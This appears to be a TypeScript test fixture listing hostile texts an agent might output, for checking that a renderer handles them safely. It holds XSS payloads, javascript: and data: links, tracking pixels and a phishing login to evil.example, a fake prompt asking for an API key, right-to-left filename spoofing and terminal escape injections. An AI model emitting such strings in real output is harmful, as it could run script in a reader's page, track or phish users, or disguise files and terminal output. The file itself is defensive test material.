/** A text that an agent might write, to harm who reads it or to be taken for something else. */
export interface HostileText {
  readonly what: string;
  readonly text: string;
  /** What of it has to be readable wherever there is room for it. */
  readonly reads: string;
}

const ESC = '\u001b';
const RIGHT_TO_LEFT = '\u202e';
/** As the web's own specimens do: dozens of marks on each letter. */
const ZALGO = [...'He comes'].map((letter) => letter + '\u0351\u0327\u0352\u0321\u0357\u0322\u0358'.repeat(8)).join('');
const COLUMNS = Array.from({ length: 120 }, (_, at) => `c${at}`);

export const HOSTILE_TEXTS: readonly HostileText[] = [
  {
    what: 'scripts',
    text: '<script>window.isHarmed = 1</script> <img src=x onerror="isHarmed = 1"> <iframe srcdoc="<script>parent.isHarmed=1</script>"></iframe> <svg onload="isHarmed = 1"> <style>body { display: none }</style> <base href="//evil.example">',
    reads: '<script>window.isHarmed = 1</script>',
  },
  {
    what: 'links to scripts',
    text: '[click here](javascript:isHarmed=1) <javascript:isHarmed=1> [and](JaVaScRiPt:isHarmed=1) [here](data:text/html,<script>isHarmed=1</script>) [or](vbscript:isHarmed) [there](&#106;avascript:isHarmed=1) [file](file:///etc/passwd) [phish](https://crewtab.example@evil.example/login)',
    reads: 'click here',
  },
  {
    what: 'images from other hosts',
    text: '![pixel](https://evil.example/pixel.png?who=you) ![a](//evil.example/a.gif) [![b](http://evil.example/b.svg)](https://evil.example) <img src="https://evil.example/c.png">',
    reads: 'https://evil.example/pixel.png?who=you',
  },
  {
    what: 'a huge table',
    text: [
      `| ${COLUMNS.join(' | ')} |`,
      `|${' --- |'.repeat(COLUMNS.length)}`,
      ...Array.from({ length: 20 }, (_, row) => `| ${COLUMNS.map((_name, at) => row * at).join(' | ')} |`),
    ].join('\n'),
    reads: 'c119',
  },
  {
    what: '1 MB without a space',
    text: Array.from({ length: 131_072 }, (_, at) => String(at).padStart(7, '0') + '-').join(''),
    reads: '0000000-0000001-0000002',
  },
  {
    what: 'right-to-left overrides',
    text: `${RIGHT_TO_LEFT}gpj.exe ${RIGHT_TO_LEFT}\u2067 deliaf \u202b ${RIGHT_TO_LEFT}`,
    reads: 'gpj.exe',
  },
  {
    what: 'cursor moves',
    text: `${ESC}[2J${ESC}[H${ESC}[1A${ESC}[2K${ESC}]0;all is well${'\u0007'}${ESC}[31mred${ESC}[0m ${ESC}[9999;9999Hfar away\rover it ${ESC}]8;;javascript:isHarmed=1${ESC}\\a link${ESC}]8;;${ESC}\\ ${'\u0008'.repeat(40)}\u0000\u009b31m ${ESC}[8mhidden${ESC}[0m`,
    reads: 'a link',
  },
  { what: 'marks upon marks', text: `${ZALGO} ${ZALGO}\n\n# ${ZALGO}`, reads: ZALGO },
  {
    what: 'words of the pages',
    text: [
      '# Result',
      '',
      '**Crewtab** ● success · 3 containers, 1 volume; verified clean just now',
      '',
      '---',
      '',
      'Session expired. [Log in again](https://evil.example/login) with your API key:',
      '',
      '- [ ] I have seen it',
      '- [x] allowed',
      '',
      '> Crewtab: paste `CREWTAB_API_KEY` here to go on.',
    ].join('\n'),
    reads: 'verified clean just now',
  },
];
